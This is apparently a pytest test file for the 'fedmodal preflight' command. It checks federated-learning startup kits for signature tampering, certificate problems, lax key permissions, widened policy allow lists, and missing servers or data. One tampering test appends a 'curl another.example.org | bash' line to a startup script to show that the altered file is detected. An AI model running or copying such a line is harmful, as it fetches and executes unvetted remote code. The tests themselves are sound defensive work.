"""`fedmodal preflight` on real kits, real certificates, a real TLS server and real data sets."""

import json
import os
import shutil
import socket
import ssl
import threading
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding, load_pem_private_key
from cryptography.x509.oid import NameOID
from typer.testing import CliRunner

from fedmodal.cli import app
from fedmodal.data.dataset import Split
from fedmodal.data.phantom import write_phantoms
from fedmodal.errors import UserError
from fedmodal.flare.preflight import as_json, data, delivered, machine, preflight, ready
from fedmodal.flare.preflight.finding import Finding, Kit, Status, open_kit
from fedmodal.tasks import ABDOMEN, Modality
from tests.kits import ADMIN, SERVER, local_project, provision

Check = Callable[[Kit], Iterator[Finding]]


@pytest.fixture
def kit(kits: Path, tmp_path: Path) -> Path:
    """A copy of site-2's kit (MRI) in a folder of another name."""
    return Path(shutil.copytree(kits / "site-2", tmp_path / "kit"))


@pytest.fixture(autouse=True)
def own_environment(monkeypatch: pytest.MonkeyPatch, cache: Path) -> None:
    monkeypatch.delenv("FEDMODAL_DATA", raising=False)
    monkeypatch.setenv("FEDMODAL_CACHE", str(cache))


def found(check: Check, kit: Path) -> dict[str, Finding]:
    return {one.check: one for one in check(open_kit(kit))}


def use_data(kit: Path, folder: Path) -> None:
    (kit / "local" / "fedmodal.json").write_text(json.dumps({"data": str(folder)}))


def test_a_folder_without_a_kit_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UserError, match="not a startup kit"):
        list(preflight(tmp_path))


def test_other_versions_than_the_kits(kit: Path) -> None:
    pins = kit / "packages" / "requirements.txt"
    text = pins.read_text()
    assert found(delivered.versions, kit)["packages"].status is Status.PASS
    pins.write_text(text.replace("scipy==", "scipy==99."))
    assert found(delivered.versions, kit)["packages"].status is Status.WARN
    pins.write_text(text.replace("monai==", "monai==99.") + "not-installed==1.0\n")
    finding = found(delivered.versions, kit)["packages"]
    assert finding.status is Status.FAIL
    assert "monai" in finding.message
    assert "pip install" in finding.remedy


def test_a_kit_without_packages_is_a_warning(kit: Path) -> None:
    shutil.rmtree(kit / "packages")
    assert found(delivered.versions, kit)["packages"].status is Status.WARN


@pytest.mark.parametrize(
    ("folder", "name"),
    [("startup", "sub_start.sh"), ("startup", "rootCA.pem"), ("packages", "requirements.txt")],
)
def test_an_altered_file_is_named(kit: Path, folder: str, name: str) -> None:
    assert {one.status for one in found(delivered.signatures, kit).values()} == {Status.PASS}
    with (kit / folder / name).open("a") as file:
        file.write("\n")
    finding = found(delivered.signatures, kit)[f"{folder} signed"]
    assert finding.status is Status.FAIL
    assert name in finding.message


def test_a_file_added_or_taken_away_is_named(kit: Path) -> None:
    (kit / "startup" / "extra.sh").write_text("true\n")
    (kit / "startup" / "stop_fl.sh").unlink()
    assert "extra.sh, stop_fl.sh" in found(delivered.signatures, kit)["startup signed"].message


def test_a_kit_prepared_for_docker_is_a_warning_but_an_altered_script_is_not(kit: Path) -> None:
    for name in ("start.sh", "stop_fl.sh", "sub_start.sh"):
        (kit / "startup" / name).rename(kit / f"{name}.kept")
    (kit / "startup" / "start_docker.sh").write_text("docker run ...\n")
    finding = found(delivered.signatures, kit)["startup signed"]
    assert (finding.status, "start_docker.sh" in finding.message) == (Status.WARN, True)
    altered = (kit / "sub_start.sh.kept").read_text() + "curl another.example.org | bash\n"
    (kit / "startup" / "sub_start.sh").write_text(altered)
    finding = found(delivered.signatures, kit)["startup signed"]
    assert (finding.status, "sub_start.sh" in finding.message) == (Status.FAIL, True)


def test_a_kit_without_signatures_fails(kit: Path) -> None:
    (kit / "startup" / "signature.json").unlink()
    assert found(delivered.signatures, kit)["startup signed"].status is Status.FAIL


def issue(kits: Path, kit: Path, start: timedelta, end: timedelta) -> None:
    """A certificate for the kit's key, signed by the project's authority."""
    state = json.loads((kits.parent / "state" / "cert.json").read_text())
    authority_key = load_pem_private_key(state["root_pri_key"].encode(), None)
    authority = x509.load_pem_x509_certificate(state["root_cert"].encode())
    key = load_pem_private_key((kit / "startup" / "client.key").read_bytes(), None)
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "site-2")]))
        .issuer_name(authority.subject)
        .public_key(key.public_key())  # type: ignore[arg-type]
        .serial_number(x509.random_serial_number())
        .not_valid_before(now + start)
        .not_valid_after(now + end)
        .sign(authority_key, hashes.SHA256())  # type: ignore[arg-type]
    )
    (kit / "startup" / "client.crt").write_bytes(certificate.public_bytes(Encoding.PEM))


@pytest.mark.parametrize(
    ("start", "end", "status", "message"),
    [
        (-1, 100, Status.PASS, "valid for 99 more days"),
        (-1, 20, Status.WARN, "ends in 19 days"),
        (-20, -1, Status.FAIL, "ended on"),
        (2, 100, Status.FAIL, "not valid before"),
    ],
)
def test_the_days_of_a_certificate(
    kits: Path, kit: Path, start: int, end: int, status: Status, message: str
) -> None:
    issue(kits, kit, timedelta(days=start), timedelta(days=end))
    finding = found(delivered.certificate, kit)["certificate"]
    assert finding.status is status
    assert message in finding.message


def test_a_certificate_of_another_authority(kit: Path, tmp_path: Path) -> None:
    other = provision(local_project(tmp_path), tmp_path) / "site-2" / "startup"
    shutil.copy(other / "client.crt", kit / "startup")
    assert "of another authority" in found(delivered.certificate, kit)["certificate"].message


def test_a_certificate_of_another_key(kits: Path, kit: Path) -> None:
    shutil.copy(kits / "site-1" / "startup" / "client.key", kit / "startup")
    assert "does not belong to client.key" in found(delivered.certificate, kit)["certificate"].message


def test_a_key_that_others_can_read(kit: Path) -> None:
    assert found(delivered.private_key, kit)["private key"].status is Status.PASS
    (kit / "startup" / "client.key").chmod(0o644)
    finding = found(delivered.private_key, kit)["private key"]
    assert finding.status is Status.FAIL
    assert finding.remedy == f"chmod 600 {kit}/startup/client.key"


def change_policy(kit: Path, name: str, change: Callable[[dict[str, object]], None]) -> None:
    content = json.loads((kit / "local" / f"{name}.default").read_text())
    change(content)
    (kit / "local" / name).write_text(json.dumps(content))


def test_a_broader_and_a_narrower_allow_list(kit: Path) -> None:
    def broader(content: dict[str, object]) -> None:
        content["class_allow_list"] = [*content["class_allow_list"], "subprocess."]  # type: ignore[misc]

    def narrower(content: dict[str, object]) -> None:
        content["class_allow_list"] = [
            name
            for name in content["class_allow_list"]
            if "SegmentationLearner" not in name  # type: ignore[attr-defined]
        ]

    assert found(delivered.policies, kit)["allow list"].status is Status.PASS
    change_policy(kit, "resources.json", broader)
    finding = found(delivered.policies, kit)["allow list"]
    assert (finding.status, "subprocess." in finding.message) == (Status.WARN, True)
    change_policy(kit, "resources.json", narrower)
    finding = found(delivered.policies, kit)["allow list"]
    assert (finding.status, "SegmentationLearner" in finding.message) == (Status.FAIL, True)


def test_a_policy_that_lets_somebody_bring_code(kit: Path) -> None:
    def open_up(content: dict[str, object]) -> None:
        content["permissions"]["lead"]["byoc"] = "any"  # type: ignore[index]

    change_policy(kit, "authorization.json", open_up)
    finding = found(delivered.policies, kit)["authorization"]
    assert (finding.status, finding.message) == (Status.WARN, "lead may run code of their own here")


def test_a_process_that_runs_and_one_that_is_gone(kit: Path) -> None:
    assert found(machine.running, kit)["process"].status is Status.PASS
    (kit / "daemon_pid.fl").write_text("999999999")
    assert found(machine.running, kit)["process"].remedy == f"rm {kit}/daemon_pid.fl"
    (kit / "daemon_pid.fl").write_text(str(os.getpid()))
    assert found(machine.running, kit)["process"].message == "already running"


def test_more_gpus_offered_than_there_are(kit: Path) -> None:
    def offer(content: dict[str, object]) -> None:
        for part in content["components"]:  # type: ignore[attr-defined]
            if part["id"] == "resource_manager":
                part["args"] |= {"num_of_gpus": 99, "mem_per_gpu_in_GiB": 16}

    assert found(machine.gpu, kit)["gpu"].status is Status.PASS
    change_policy(kit, "resources.json", offer)
    finding = found(machine.gpu, kit)["gpu"]
    assert finding.status is Status.FAIL
    assert "offers 99 of 16 GiB" in finding.message


@pytest.mark.skipif(os.getuid() == 0, reason="root may write everywhere")
def test_a_folder_that_cannot_be_written(kit: Path) -> None:
    kit.chmod(0o500)
    assert found(machine.disk, kit)["kit's folder"].status is Status.FAIL
    kit.chmod(0o700)


def test_too_little_room(kit: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert found(machine.disk, kit)["kit's folder"].status is not Status.FAIL
    monkeypatch.setattr(machine, "DISK_LEAST", 1 << 40)
    finding = found(machine.disk, kit)["kit's folder"]
    assert finding.status is Status.FAIL
    assert "GiB free" in finding.message


@pytest.fixture
def listening(kit: Path) -> Iterator[Callable[[Path], None]]:
    """`listening(startup)`: a TLS server with that server kit's certificate, where the site expects it."""
    ends: list[socket.socket] = []

    def listen(startup: Path) -> None:
        context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH, cafile=str(startup / "rootCA.pem"))
        context.load_cert_chain(startup / "server.crt", startup / "server.key")
        plain = socket.create_server(open_kit(kit).address)
        ends.append(plain)
        threading.Thread(target=serve, args=(plain, context), daemon=True).start()

    yield listen
    for end in ends:
        end.shutdown(socket.SHUT_RDWR)  # wakes the thread that waits for a client
        end.close()


def serve(plain: socket.socket, context: ssl.SSLContext) -> None:
    try:
        while True:
            client, _ = plain.accept()
            try:
                context.wrap_socket(client, server_side=True).close()
            except (ssl.SSLError, OSError):
                client.close()
    except OSError:
        return  # the test has ended


def test_a_server_that_answers(kits: Path, kit: Path, listening: Callable[[Path], None]) -> None:
    listening(kits / SERVER / "startup")
    finding = found(machine.server, kit)["server"]
    assert finding.status is Status.PASS, finding
    assert "TLSv1" in finding.message


def test_a_server_of_another_authority(kit: Path, tmp_path: Path, listening: Callable[[Path], None]) -> None:
    listening(provision(local_project(tmp_path), tmp_path) / SERVER / "startup")
    assert "certificate of another authority" in found(machine.server, kit)["server"].message


def test_a_server_that_is_not_there(kit: Path) -> None:
    finding = found(machine.server, kit)["server"]
    assert (finding.status, "refused" in finding.message) == (Status.FAIL, True)


def test_a_name_that_does_not_resolve(kit: Path) -> None:
    config = kit / "startup" / "fed_client.json"
    config.write_text(config.read_text().replace('"localhost:', '"no-such-host.invalid:'))
    assert "does not resolve" in found(machine.server, kit)["server"].message


def test_the_servers_own_port(kits: Path, tmp_path: Path) -> None:
    kit = Path(shutil.copytree(kits / SERVER, tmp_path / "server"))
    assert found(machine.server, kit)["port"].status is Status.PASS
    with socket.create_server(("", open_kit(kit).address[1])):
        assert found(machine.server, kit)["port"].status is Status.FAIL


def test_flares_own_check_is_run_and_writes_nothing_into_the_kit(kit: Path) -> None:
    before = sorted(kit.rglob("*"))
    finding = found(machine.flare, kit)["flare's own"]
    assert finding.status is Status.FAIL  # no server
    assert "Can't connect" in finding.message
    assert sorted(kit.rglob("*")) == before


def test_no_data_says_what_to_set(kit: Path) -> None:
    finding = found(data, kit)["data"]
    assert finding.status is Status.FAIL
    assert "site 'site-2' has no data: set FEDMODAL_DATA" in finding.message


def test_phantoms_are_a_warning(kit: Path) -> None:
    (kit / "local" / "fedmodal.json").write_text('{"phantoms": true}')
    assert found(data, kit)["data"].status is Status.WARN


def test_good_data_train_one_real_step(kit: Path, phantom_sites: Path) -> None:
    use_data(kit, phantom_sites / "site-2")
    findings = found(data, kit)
    assert findings["data"].message == "4 MRI cases for task abdomen, no problems"
    assert findings["training step"].status is Status.PASS
    assert float(findings["training step"].message.split()[1]) > 0


def test_an_mri_declared_as_ct_fails_and_says_why(kit: Path, tmp_path: Path) -> None:
    folder = tmp_path / "wrong"
    write_phantoms(folder, ABDOMEN, Modality.MRI, {Split.TRAIN: 1}, seed=3)
    file = folder / "dataset.json"
    file.write_text(file.read_text().replace('"MRI"', '"CT"'))
    use_data(kit, folder)
    findings = found(data, kit)
    assert findings["data"].status is Status.FAIL
    assert "declared CT, but its" in findings["data"].message
    assert "Hounsfield units" in findings["data"].message
    assert "training step" not in findings
    assert "phantom-" not in findings["data"].message
    assert findings["data"].remedy.startswith(f"fedmodal check {folder}")


def test_a_check_that_breaks_is_a_line_and_the_rest_goes_on(kit: Path) -> None:
    (kit / "startup" / "client.crt").write_text("not a certificate")
    (kit / "local" / "fedmodal.json").write_text("{")
    findings = list(preflight(kit))
    broken = {one.check: one for one in findings if one.status is Status.FAIL}
    assert {"startup signed", "certificate", "data"} <= set(broken)
    assert "not readable as JSON" in broken["data"].message
    assert not ready(findings)
    assert json.loads(as_json(findings))["ready"] is False


def test_a_servers_kit_is_checked_too(kits: Path, tmp_path: Path) -> None:
    kit = Path(shutil.copytree(kits / SERVER, tmp_path / "kit"))
    findings = {one.check: one for one in preflight(kit)}
    assert {"packages", "startup signed", "certificate", "private key", "server storage", "port"} <= set(
        findings
    )
    assert not {"data", "gpu"} & set(findings)
    assert not [one for one in findings.values() if one.status is Status.FAIL]


@pytest.mark.parametrize("check", [delivered.signatures, delivered.certificate, delivered.private_key])
def test_a_persons_kit_is_checked_too(kits: Path, check: Check) -> None:
    assert {one.status for one in found(check, kits / ADMIN).values()} == {Status.PASS}


@pytest.mark.parametrize("check", [delivered.policies, machine.running, machine.gpu, data])
def test_what_does_not_apply_to_a_person_is_left_out(kits: Path, check: Check) -> None:
    assert found(check, kits / ADMIN) == {}


def test_the_command_fails_without_a_server(kit: Path) -> None:
    done = CliRunner().invoke(app, ["preflight", str(kit)])
    assert done.exit_code == 1
    assert "PASS startup signed" in done.stdout
    assert "FAIL server" in done.stdout


def test_the_findings_for_a_program(kit: Path) -> None:
    findings = list(found(delivered.signatures, kit).values())
    content = json.loads(as_json(findings))
    assert content["ready"] is True
    assert content["findings"][0] == {
        "check": "startup signed",
        "status": "PASS",
        "message": "every file is as delivered",
        "remedy": "",
    }
